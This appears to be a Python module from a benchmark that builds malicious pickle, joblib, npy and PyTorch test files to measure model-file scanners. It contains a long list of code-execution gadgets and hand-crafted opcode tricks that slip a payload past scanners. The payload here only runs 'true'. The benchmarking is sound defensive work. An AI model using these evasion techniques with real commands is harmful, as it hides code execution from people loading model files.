"""Malicious files that are made for the measurement, each by a trick that somebody's scanner fell for.

None of them is ever loaded; what they would run is `true`.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import joblib
import numpy as np

from bench.pickle_gadgets import gadgets

STOP = b"."
PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)

#: Ways to run code or to touch files, by names that a list of what is bad, or of good prefixes, may not have.
_GADGETS = """
builtins.eval builtins.exec builtins.getattr builtins.__import__ builtins.open builtins.breakpoint
os.system posix.system nt.system os.popen os.execv os.remove subprocess.Popen pty.spawn
importlib.import_module runpy.run_path runpy._run_code pydoc.locate pydoc.pipepager pkgutil.resolve_name
operator.attrgetter operator.methodcaller _operator.methodcaller types.FunctionType marshal.loads pickle.loads
_pickle.loads code.interact timeit.timeit cProfile.run profile.run bdb.Bdb
doctest.debug_script ctypes.CDLL ensurepip._run_pip venv.create idlelib.pyshell.ModifiedInterpreter
lib2to3.pgen2.driver.load_grammar distutils.file_util.write_file shutil.rmtree shutil.copy
logging.FileHandler logging.config.fileConfig socket.create_connection urllib.request.urlretrieve
http.client.HTTPSConnection smtplib.SMTP ftplib.FTP webbrowser.open asyncio.run multiprocessing.Process
uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output imaplib.IMAP4_stream
test.support.script_helper.assert_python_ok unittest.mock._importer zipimport.zipimporter sqlite3.connect
numpy.load numpy.fromfile numpy.memmap numpy.save numpy.savetxt numpy.f2py.compile
numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring numpy.ctypeslib.load_library
numpy.distutils.exec_command.exec_command pandas.read_pickle pandas.eval pandas.io.common.get_handle
pandas.core.computation.eval.eval joblib.load joblib.numpy_pickle.load joblib.memory.Memory
scipy.stats._distn_infrastructure.rv_continuous_frozen scipy.io.loadmat sklearn.datasets._base.load_files
sklearn.datasets.fetch_openml sklearn.utils._testing.assert_run_python_script torch.load torch.hub.load
torch.utils.collect_env.run torch._inductor.codecache.compile_file torch.jit.unsupported_tensor_ops.execWrapper
cloudpickle.cloudpickle._make_function dill._dill._create_function
"""


class Runs:
    """Pickled as a call of `function(*args)`."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.call


EVIL = Runs(os.system, "true")


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def call(name: str) -> bytes:
    """A pickle that calls what is named, with one text."""
    module, _, attribute = name.rpartition(".")
    return b"\x80\x04" + text(module) + text(attribute) + b"\x93" + text("true") + b"\x85R."


def payloads() -> Iterator[tuple[str, bytes]]:
    """Each malicious file: its name, which says the trick, and its bytes."""
    yield from ((f"gadget-{name}.pkl", call(name)) for name in _GADGETS.split())
    yield from ((f"protocol-{protocol}.pkl", pickle.dumps(EVIL, protocol)) for protocol in PROTOCOLS)
    yield from _compressed()
    yield from _behind_arrays()
    yield from _opcodes()
    yield from gadgets()
    yield from _containers()
    evil = pickle.dumps(EVIL)
    for extension in ("safetensors", "onnx", "ubj", "cbm", "json", "gguf", "npy", "npz", "pt", "bin", "skops"):
        yield f"name-of-another-format.{extension}", evil


def joblib_bytes(value: object, **options: Any) -> bytes:
    stream = io.BytesIO()
    joblib.dump(value, stream, **options)
    return stream.getvalue()


def _compressed() -> Iterator[tuple[str, bytes]]:
    for kind in ("zlib", "gzip", "bz2", "lzma", "xz"):
        yield f"joblib-{kind}.joblib", joblib_bytes({"a": np.arange(9.0), "b": EVIL}, compress=(kind, 3))
    evil = pickle.dumps(EVIL)
    packers: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress,
        "gzip": gzip.compress,
        "bz2": bz2.compress,
        "lzma": lzma.compress,
    }
    yield from ((f"pickle-{kind}.pkl", pack(evil)) for kind, pack in packers.items())


def _behind_arrays() -> Iterator[tuple[str, bytes]]:
    for protocol in PROTOCOLS:
        value = [np.arange(1000.0), EVIL]
        yield f"behind-an-array-{protocol}.joblib", joblib_bytes(value, protocol=protocol)
        objects = np.array(["a", EVIL], dtype=object)
        yield f"array-of-objects-{protocol}.joblib", joblib_bytes({"w": objects}, protocol=protocol)
        yield f"behind-an-array-of-objects-{protocol}.joblib", joblib_bytes([objects[:1], EVIL], protocol=protocol)


def _opcodes() -> Iterator[tuple[str, bytes]]:
    harmless, evil = pickle.dumps([1, 2]), pickle.dumps(EVIL)
    call_lines = b"cposix\nsystem\n(S'true'\ntR."
    yield "inst.pkl", b"(S'true'\niposix\nsystem\n."
    yield "obj.pkl", b"(cposix\nsystem\nS'true'\no."
    yield "frame-straddle.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1) + call_lines
    yield "frame-too-long.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 20) + call_lines
    yield "frame-of-nothing.pkl", b"\x80\x04\x95" + bytes(8) + call_lines
    yield (
        "memo.pkl",
        b"\x80\x04" + text("posix") + b"\x940" + text("system") + b"\x940h\0h\1\x93" + text("true") + b"\x85R.",
    )
    yield (
        "long-memo.pkl",
        b"\x80\x04"
        + text("posix")
        + b"r\xff\xff\0\x000"
        + b"j\xff\xff\0\0"
        + text("system")
        + b"\x93"
        + text("true")
        + b"\x85R.",
    )
    yield "escaped-name.pkl", b"\x80\x04Vposi\\u0078\nVsystem\n\x93" + text("true") + b"\x85R."
    yield (
        "wide-name.pkl",
        b"\x80\x04\x8d" + struct.pack("<Q", 5) + b"posixX\x06\0\0\0system\x93" + text("true") + b"\x85R.",
    )
    yield "byte-string-name.pkl", b"\x80\x04U\x05posixU\x06system\x93U\x04true\x85R."
    yield "popped.pkl", b"\x80\x04" + call_lines[:-1] + b"0N."
    yield "newobj-ex.pkl", b"\x80\x04csubprocess\nPopen\n" + text("true") + b"\x85}\x92."
    yield "build.pkl", b"\x80\x04csite\n_Printer\n)\x81}" + text("__class__") + b"cposix\nsystem\nsb."
    yield "python-2-name.pkl", b"\x80\x02c__builtin__\neval\nX\x01\0\0\x001\x85R."
    yield "dotted-name.pkl", b"\x80\x04" + text("numpy") + text("f2py.os.system") + b"\x93" + text("true") + b"\x85R."
    yield "second-pickle.pkl", harmless + evil
    yield "behind-an-error.pkl", evil[:-1] + b"\xff" + STOP
    yield "without-an-end.pkl", evil[:-1]
    yield "persistent-id.pkl", b"\x80\x04" + call_lines[:-1] + b"Q."
    yield "extension-registry.pkl", b"\x80\x04\x82\x01" + call_lines


def _containers() -> Iterator[tuple[str, bytes]]:
    evil = pickle.dumps(EVIL, 2)
    harmless = pickle.dumps({"w": 1})
    tensors = {"model/data.pkl": evil, "model/version": b"3\n"}
    yield "pytorch.pt", archive(tensors)
    yield "pytorch-deflated.pt", archive(tensors, zipfile.ZIP_DEFLATED)
    yield "pytorch-other-member.pt", archive({"model/data.pkl": harmless, "model/version": b"3", "model/x": evil})
    yield "pytorch-flipped-crc.pt", archive(tensors).replace(struct.pack("<I", zlib.crc32(evil)), b"\0\0\0\1")
    flagged = bytearray(archive(tensors))
    flagged[flagged.index(b"PK\1\2") + 8] |= 1
    yield "pytorch-flagged-encrypted.pt", bytes(flagged)
    yield "pickle-before-archive.pt", evil + archive({"model/data.pkl": harmless, "model/version": b"3"})
    yield "pickle-before-archive.pkl", evil + archive({"a": b"b"})
    yield "archive-behind-pickle.pkl", harmless + archive(tensors)
    yield "archive-in-archive.pt", archive({"inner.pt": archive(tensors)})
    yield "archive-in-archive.skops", archive({"schema.json": b"{}", "w.npz": archive({"w.npy": npy()})})
    yield "array-of-objects.npy", npy()
    yield "array-of-objects.npz", archive({"a.npy": npy(np.arange(3)), "b.npy": npy()})
    yield "pickle-in-skops.skops", archive({"schema.json": b"{}", "w.pkl": evil})
    yield "pickle-in-skops-by-no-name.skops", archive({"schema.json": b"{}", "w": evil})


def archive(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as opened:
        for name, content in members.items():
            opened.writestr(name, content)
    return stream.getvalue()


def npy(array: Any = None) -> bytes:
    """A .npy file; without an array one of objects with the payload."""
    stream = io.BytesIO()
    np.save(stream, np.array([EVIL, None], dtype=object) if array is None else array, allow_pickle=True)
    return stream.getvalue()
